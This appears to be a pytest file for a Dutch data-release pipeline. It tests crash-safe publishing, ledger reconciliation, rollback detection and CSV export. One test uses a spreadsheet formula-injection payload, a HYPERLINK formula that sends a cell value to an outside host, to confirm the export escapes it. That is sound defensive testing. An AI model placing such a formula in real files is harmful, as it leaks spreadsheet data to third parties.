"""Publishing in one step, and putting things right after a stop at any moment."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import duckdb
import pytest

from assets.release import publish
from assets.release.assets import promises, release_candidate
from assets.release.marts import read_marts
from assets.release.publish import RECORD, ReleaseError, candidate_folder, current, reconcile, releases
from datafabriek.ledger import Ledger, LedgerError
from quality.expectations import validate


class Stop(BaseException):
    """The power goes out."""


def stop_before(monkeypatch, moment):
    """Stop the process just before a step of publishing."""
    append, rename, replace = Ledger.append, Path.rename, Path.replace

    def stopping_append(self, kind, subject, payload):
        if moment == f"ledger {kind}":
            raise Stop
        return append(self, kind, subject, payload)

    def stopping_rename(self, target):
        if moment == "rename":
            raise Stop
        return rename(self, target)

    def stopping_replace(self, target):
        if moment == "link" and self.name.endswith(".nieuw"):
            raise Stop
        return replace(self, target)

    monkeypatch.setattr(Ledger, "append", stopping_append)
    monkeypatch.setattr(Path, "rename", stopping_rename)
    monkeypatch.setattr(Path, "replace", stopping_replace)


@pytest.mark.parametrize("moment", ["ledger release", "rename", "link", "ledger publication"])
@pytest.mark.parametrize("earlier", [False, True], ids=["first release", "a later release"])
def test_a_stop_at_any_moment_is_put_right(factory, moment, earlier):
    home, old = factory.settings.paths, None
    if earlier:
        old, _ = factory.release("open")
        factory.bijstand({"2020-01": {"BU19160000": 44}})
    with pytest.MonkeyPatch.context() as patch:
        stop_before(patch, moment)
        with pytest.raises(Stop):
            factory.release("open")
    shown = current(home, "open")
    assert shown is None or shown.database.is_file(), "what is published is whole at every moment"
    if moment in ("ledger release", "rename", "link"):
        assert (shown.id if shown else None) == (old.id if old else None)
    done = reconcile(home, factory.ledger)
    noted = factory.ledger.events("release", "open")
    shown = current(home, "open")
    if moment == "ledger release":
        assert done == []
        assert len(noted) == (1 if earlier else 0)
    else:
        assert shown is not None
        assert shown.id == noted[-1].payload["release"]
        assert factory.ledger.last("publication", "open").payload["release"] == shown.id
    assert reconcile(home, factory.ledger) == []
    release, _ = factory.release("open")
    assert current(home, "open").id == release.id
    assert len({event.payload["release"] for event in factory.ledger.events("release")}) == len(releases(home))


def test_a_candidate_lost_after_the_ledger_noted_it_is_withdrawn(factory):
    home = factory.settings.paths
    with pytest.MonkeyPatch.context() as patch:
        stop_before(patch, "rename")
        with pytest.raises(Stop):
            factory.release("open")
    for file in candidate_folder(home, "open").iterdir():
        file.unlink()
    reconcile(home, factory.ledger)
    assert factory.ledger.last("withdrawal", "open").payload["reden"] == "nooit voltooid"
    release, is_new = factory.release("open")
    assert is_new
    assert current(home, "open").id == release.id


def test_open_readers_keep_the_old_file_and_new_ones_see_the_new(factory):
    factory.release("open")
    file = factory.settings.paths.published / "open" / "datafabriek.duckdb"
    query = "SELECT max(teller) FROM bijstand_per_regio WHERE regio_code = 'BU19160001'"
    held = os.open(file, os.O_RDONLY)
    before = os.fstat(held).st_ino
    factory.bijstand({"2020-01": {"BU19160001": 50}})
    factory.release("open")
    assert os.fstat(held).st_ino == before != file.stat().st_ino
    os.close(held)
    with duckdb.connect(str(file), read_only=True) as connection:
        assert connection.execute(query).fetchone() == (50,)


def test_a_rolled_back_ledger_refuses_release(factory):
    ledger = factory.settings.paths.ledger
    factory.release("open")
    copy = {path: path.read_bytes() for path in ledger.parent.iterdir()}
    factory.bijstand({"2020-01": {"BU19160001": 50}})
    factory.release("open")
    for path in ledger.parent.iterdir():
        path.unlink()
    for path, content in copy.items():
        path.write_bytes(content)
    with pytest.raises((LedgerError, ReleaseError), match="backup"):
        factory.release("open")


def test_a_missing_ledger_refuses_release(factory):
    factory.release("open")
    for path in factory.settings.paths.ledger.parent.iterdir():
        path.unlink()
    with pytest.raises((LedgerError, ReleaseError), match="backup"):
        factory.release("open")


def test_a_published_release_that_is_gone_refuses_release(factory):
    release, _ = factory.release("open")
    for file in release.folder.iterdir():
        file.unlink()
    release.folder.rmdir()
    with pytest.raises(ReleaseError, match="is gone: restore it from a backup"):
        factory.release("open")


def test_a_candidate_file_that_changed_after_the_checks_is_not_published(factory):
    candidate = factory.candidate("open")
    with (candidate.folder / "bijstand_per_regio.csv").open("a") as file:
        file.write("een regel erbij\n")
    with pytest.raises(ReleaseError, match=r"bijstand_per_regio\.csv not as recorded"):
        publish.publish(factory.settings.paths, factory.ledger, "open")
    assert current(factory.settings.paths, "open") is None


def test_a_formula_is_text_in_the_csv_and_itself_elsewhere(factory, ask):
    """A name that an organisation or supplier chose; whoever opens the CSV in a spreadsheet runs nothing."""
    formula = '=HYPERLINK("http://elders/?"&A1)'
    factory.settings = factory.settings.model_copy(update={"name": formula})
    release = factory.candidate("intern")
    with (release.folder / "release_info.csv").open(newline="") as file:
        told = {row["naam"]: row["waarde"] for row in csv.DictReader(file)}
    assert told["fabriek"] == f"'{formula}"
    assert ask(release, "SELECT waarde FROM release_info WHERE naam = 'fabriek'") == [(formula,)]


def test_the_ledger_holds_fingerprints_norms_and_counts(factory):
    release, _ = factory.release("open")
    payload = factory.ledger.last("release", "open").payload
    assert payload["release"] == release.id
    assert payload["normen_versie"] == "toets-1"
    assert payload["bestanden"][RECORD] == publish.fingerprint(release.folder / RECORD)
    assert set(payload["bestanden"]) == {file.name for file in release.folder.iterdir()}
    counts = payload["tabellen"]["bijstand_per_regio"]["aantallen"]
    assert counts["cellen"] == sum(counts[s] for s in ("verstrekt", "afgerond", "geheim", "onbekend", "nvt"))


def test_old_releases_are_kept_and_cited_by_id(factory):
    first, _ = factory.release("open")
    factory.bijstand({"2020-01": {"BU19160001": 50}})
    factory.release("open")
    assert publish.find_release(factory.settings.paths, first.id).content == first.content
    with pytest.raises(ReleaseError, match=first.id):
        publish.find_release(factory.settings.paths, "open-1999-01-01-000000")


def test_codes_of_wijken_and_buurten_may_hold_letters(factory, ask):
    factory.zzp({})
    for table in ("marts.bijstand_per_regio", "marts.zzp_per_regio", "marts.zzp_per_sector"):
        factory.sql(f"UPDATE {table} SET regio_code = replace(regio_code, '191600', '1916AF')")
    for table in ("raw_cbs.kerncijfers_wijken_en_buurten", "raw_cbs.regios"):
        factory.sql(f"UPDATE {table} SET regio_code = replace(regio_code, '191600', '1916AF')")
    release, is_new = factory.release("open")
    assert is_new
    assert {facts["staat"] for facts in release.record["tabellen"].values()} == {"actueel"}
    found = ask(release, "SELECT DISTINCT regio_code FROM bijstand_per_regio WHERE regio_code LIKE '%AF%'")
    assert {code for (code,) in found} == {"WK1916AF", *(f"BU1916AF0{number}" for number in range(4))}
    suite = promises(release, read_marts(factory.settings))
    assert not [
        item.failed for item in validate(release.database, suite, factory.folder / "docs", "open") if item.failed
    ]


def test_the_ledger_is_gone_through_once_however_many_releases_there_are(factory, monkeypatch):
    for count in (30, 40, 50):
        factory.bijstand({"2020-01": {"BU19160000": count}})
        factory.release("open")
    verify, asked = Ledger.verify, []
    monkeypatch.setattr(Ledger, "verify", lambda self, *known: asked.append(len(known)) or verify(self, *known))
    reconcile(factory.settings.paths, factory.ledger)
    assert asked == [3]


def test_a_release_without_a_candidate_says_what_to_make(factory):
    factory.release("open")
    with pytest.raises(ReleaseError, match="make levering/open_kandidaat and levering/open in one run"):
        release_candidate(factory.settings, "open")
